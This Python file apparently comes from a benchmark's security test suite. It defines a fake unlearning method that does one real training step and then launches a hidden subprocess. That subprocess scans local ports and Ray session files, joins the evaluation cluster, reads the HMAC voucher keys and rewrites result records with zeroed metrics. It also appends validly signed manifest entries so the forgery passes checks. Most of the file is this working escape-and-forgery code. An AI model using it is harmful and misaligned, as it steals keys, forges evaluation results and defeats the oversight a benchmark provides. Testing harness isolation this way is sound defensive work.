"""Unlearns honestly, then tries to join the harness's cluster from a fresh interpreter (the measured attack).

A fresh Python process (RAY_LOG_TO_STDERR=1, so Ray's driver opens no log file) looks for the GCS port
as anyone can (Ray's session files under /tmp/ray, gcs_server's command line) or takes $HOSTILE_TCP
(host:port), and connects to it and to every port listening on the machine (/proc/net/tcp); it also connects to the Unix socket $HOSTILE_UNIX and the abstract one
$HOSTILE_ABSTRACT. With $HOSTILE_RAY set, once a TCP connection succeeds it calls ray.init on that address
and runs a task in an ordinary Ray worker, which writes $HOSTILE_MARK, reads the voucher key and, under
$HOSTILE_FORGE_ROOT only, sets every record's UA columns to 0 and appends a valid manifest entry for it:
the escape. The outcomes come back as the method's statistics."""
import json
import os
import subprocess
import sys
from dataclasses import dataclass

import torch

from bench import Method, simple_loss


@dataclass
class HP:
    steps: int = 2


def one_step(model, remain, budget, ctx):
    """One honest step (so a plug-in that then misbehaves got as far as a real method)."""
    opt = torch.optim.SGD(model.denoiser.parameters(), lr=1e-4)
    b = next(remain.batches(4, ctx.generator))
    loss = simple_loss(model, b.x, model.condition(b.keys), ctx.generator)
    opt.zero_grad()
    loss.backward()
    opt.step()
    ctx.step(loss)


FRESH = r'''
import json, os, socket, sys

def gcs_addresses():
    """Where the GCS listens, as anyone can read it: Ray's session files and gcs_server's command line."""
    if os.environ.get("HOSTILE_TCP"):
        host, port = os.environ["HOSTILE_TCP"].rsplit(":", 1)
        return [(host, int(port))]
    import glob
    hosts, ports = ["127.0.0.1"], []
    try:
        hosts.append(socket.gethostbyname(socket.gethostname()))
    except OSError:
        pass
    for base in filter(None, (os.environ.get("RAY_TMPDIR"), "/tmp")):
        for current in glob.glob(os.path.join(base, "ray", "ray_current_cluster")):
            try:
                host, port = open(current).read().split()[0].rsplit(":", 1)
                hosts.append(host)
                ports.append(int(port))
            except (OSError, ValueError):
                pass
        for f in glob.glob(os.path.join(base, "ray", "session_*", "gcs_server_port_*")):
            try:
                ports.append(int(open(f).read().strip()))
            except (OSError, ValueError):
                pass
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        if args and args[0].endswith(b"gcs_server"):
            ports += [int(a.split(b"=")[1]) for a in args if a.startswith(b"--gcs_server_port=") and a.split(b"=")[1] != b"0"]
    return list(dict.fromkeys((h, p) for p in ports for h in dict.fromkeys(hosts)))


def listening():
    """Every TCP port listening on this machine (/proc/net/tcp is readable by anyone)."""
    try:
        lines = open("/proc/net/tcp").read().splitlines()[1:]
    except OSError:
        return []
    return [("127.0.0.1", int(f[1].split(":")[1], 16)) for f in (ln.split() for ln in lines) if f[3] == "0A"][:40]

def attempt(connect):
    try:
        connect().close()
        return "connected"
    except OSError as exc:
        return f"{type(exc).__name__}: {exc.strerror or exc}"

got = {"tcp": {}, "gcs": "not found"}
gcs = gcs_addresses()
for host, port in dict.fromkeys(gcs + listening()):
    got["tcp"][f"{host}:{port}"] = attempt(lambda: socket.create_connection((host, port), timeout=2))
if os.environ.get("HOSTILE_UNIX"):
    def unix():
        s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(os.environ["HOSTILE_UNIX"]); return s
    got["unix"] = attempt(unix)
if os.environ.get("HOSTILE_ABSTRACT"):
    def abstract():
        s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect("\0" + os.environ["HOSTILE_ABSTRACT"]); return s
    got["abstract"] = attempt(abstract)
if os.environ.get("HOSTILE_RAY"):
    import ray
    for address in (f"{h}:{p}" for h, p in gcs):
        if got["tcp"][address] != "connected":
            continue
        try:
            ray.init(address=address, log_to_driver=False, logging_level="ERROR")
        except Exception as exc:
            continue
        @ray.remote(num_cpus=0)
        def escape(mark, forge_root):
            import glob, hashlib, hmac
            keys = [os.path.join(os.path.expanduser("~"), ".local", "state", "unlearn-bench", "voucher.key"),
                    os.path.join(os.environ.get("UNLEARN_BENCH_STATE", "/nonexistent"), "voucher.key"), *glob.glob("/tmp/*/voucher.key")]
            keys = {k: bytes.fromhex(open(k).read().strip()) for k in keys if os.path.exists(k)}
            open(mark, "w").write("joined the cluster; keys readable: %d" % len(keys))
            forged = 0
            for manifest in glob.glob(os.path.join(forge_root, "**", "records", ".vouched.jsonl"), recursive=True) if forge_root else []:
                header = json.loads(open(manifest).readline())
                nonce = header["nonce"]
                mine = [k for k in keys.values() if hashlib.sha256(b"unlearn-bench key id\0" + k).hexdigest()[:16] == header["key_id"]]
                if not mine:
                    continue
                user_key = mine[0]
                dir_key = hmac.new(user_key, b"unlearn-bench records\0" + nonce.encode(), hashlib.sha256).digest()
                for path in glob.glob(os.path.join(os.path.dirname(manifest), "*.json")):
                    rec = json.load(open(path))
                    rec["metrics"] = {k: 0.0 if k.startswith("UA") else v for k, v in rec.get("metrics", {}).items()}
                    rec["forged_by"] = "hostile-cluster-join"
                    data = json.dumps(rec).encode()
                    open(path, "wb").write(data)
                    digest = hashlib.sha256(data).hexdigest()
                    mac = hmac.new(dir_key, f"{os.path.basename(path)}\0{digest}".encode(), hashlib.sha256).hexdigest()
                    open(manifest, "a").write(json.dumps({"file": os.path.basename(path), "sha256": digest, "mac": mac}, sort_keys=True) + "\n")
                    forged += 1
            return f"{len(keys)} key(s) read, {forged} records forged"
        got["gcs"] = "joined " + address
        got["key"] = ray.get(escape.remote(os.environ.get("HOSTILE_MARK", "/dev/null"), os.environ.get("HOSTILE_FORGE_ROOT")))
        ray.shutdown()
        break
print(json.dumps(got))
'''


class ClusterJoin(Method):
    name = "hostile-cluster-join"
    HParams = HP

    def unlearn(self, model, forget, remain, budget, ctx):
        one_step(model, remain, budget, ctx)
        proc = subprocess.run([sys.executable, "-c", FRESH], env={**os.environ, "RAY_LOG_TO_STDERR": "1"},
                              capture_output=True, text=True, timeout=120)
        lines = proc.stdout.strip().splitlines()
        got = json.loads(lines[-1]) if lines else {"error": proc.stderr[-300:]}
        return {"outcome": json.dumps(got, sort_keys=True)}
